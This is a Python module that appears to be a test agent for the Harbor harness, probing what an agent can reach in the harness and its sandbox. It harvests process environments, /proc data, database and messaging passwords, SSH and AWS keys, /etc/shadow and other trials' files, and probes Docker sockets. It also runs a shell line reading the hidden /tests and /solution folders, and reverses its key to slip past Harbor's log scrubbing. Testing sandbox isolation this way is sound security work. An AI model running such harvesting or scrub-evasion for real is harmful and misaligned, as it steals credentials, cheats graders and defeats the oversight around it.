"""An agent that writes down all that it can get hold of in its harness child, and in its sandbox.

Runs in the harness environment."""

import asyncio
import contextlib
import os
import socket
import sys
from pathlib import Path

from harbor.agents.base import BaseAgent

MOST_BYTES = 16 * 1024
SECRET_PLACES = (
    "run/database-url",
    "run/nats-url",
    "run/nats-relay-url",
    "keys/local-admin",
    "postgres/password",
    "nats/relay-password",
    "nats/worker-password",
    "nats/nats.conf",
    "logs/api.log",
    "logs/dispatcher.log",
)
"""Below the home, which lies somewhere above the trial's folder."""
ENGINES = ("/run/docker.sock", "/var/run/docker.sock", "/run/seatrial-engine/docker.sock")
IN_THE_SANDBOX = """env; set; cat /proc/mounts /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'
ls -la / /tmp /logs /run 2>/dev/null; cat /tests/* /solution/* /root/.* 2>/dev/null; echo done >/app/answer.txt; echo {marker} >/app/marker.txt"""


def seen() -> str:
    """Everything that this process can read: a section for each source."""
    parts = [f"== environment\n{dict(os.environ)}"]
    for process in ("self", *filter(str.isdigit, os.listdir("/proc"))):
        for name in ("environ", "cmdline", "maps", "mountinfo", "stack", "task/1/environ"):
            parts.append(read(Path("/proc") / process / name))
        with contextlib.suppress(OSError):
            for number in os.listdir(f"/proc/{process}/fd"):
                parts.append(read(Path("/proc") / process / "fd" / number, only_files=True))
    here = Path.cwd()
    for folder in here.parents:
        parts += [read(folder / place) for place in SECRET_PLACES]
        with contextlib.suppress(OSError):
            parts.append(f"== {folder}\n{sorted(os.listdir(folder))}")
        with contextlib.suppress(OSError):  # other trials' folders, other users' files
            parts += [read(path) for path in sorted(folder.glob("*"))[:40]]
    for folder in (Path.home(), Path("/root"), Path("/etc")):
        for name in (".ssh/id_ed25519", ".aws/credentials", ".docker/config.json", ".netrc", "shadow"):
            parts.append(read(folder / name))
    parts += [engine(path) for path in ENGINES]
    return "\n".join(parts)


def read(path: Path, *, only_files: bool = False) -> str:
    try:
        if only_files and not path.is_file():
            return f"== {path} -> {os.readlink(path)}"
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with os.fdopen(descriptor, "rb") as file:
            return f"== {path}\n{(file.read(MOST_BYTES) or b'').decode(errors='backslashreplace')}"
    except OSError as error:
        return f"== {path}: {error.strerror}"


def engine(path: str) -> str:
    """What the container engine answers: whoever reaches it owns the machine."""
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(5)
        try:
            client.connect(path)
            client.sendall(b"GET /_ping HTTP/1.0\r\n\r\n")
            return f"== {path}: the engine answers {client.recv(1000)!r}"
        except OSError as error:
            return f"== {path}: {error}"


class Dump(BaseAgent):
    def __init__(self, *arguments, marker="", raises=False, waits=False, **keywords):
        super().__init__(*arguments, **keywords)
        self.marker, self.raises, self.waits = marker, raises, waits

    @staticmethod
    def name():
        return "dump"

    def version(self):
        return "1"

    async def setup(self, environment):
        pass

    async def run(self, instruction, environment, context):
        text = seen()
        (self.logs_dir / "seen.txt").write_text(f"{self.marker}\n{text}")
        own = await environment.exec('printf %s "$ITS_KEY"', env=dict(self.extra_env))
        (self.logs_dir / "own.txt").write_text(f"{self.extra_env.get('ITS_KEY', '')}")
        (self.logs_dir / "backwards.txt").write_text((own.stdout or "")[::-1])  # Harbor itself scrubs it forwards
        sys.stdout.write(f"{self.marker}\n{text[:200_000]}\n")
        sys.stdout.flush()
        result = await environment.exec(IN_THE_SANDBOX.replace("{marker}", self.marker), env=dict(self.extra_env))
        (self.logs_dir / "sandbox.txt").write_text(f"{result.stdout}\n{result.stderr}")
        if self.raises:
            try:
                raise ValueError(text[:20_000])
            except ValueError as error:
                raise RuntimeError(f"{self.marker} broken on purpose: {dict(os.environ)}") from error
        while self.waits:
            await asyncio.sleep(0.2)
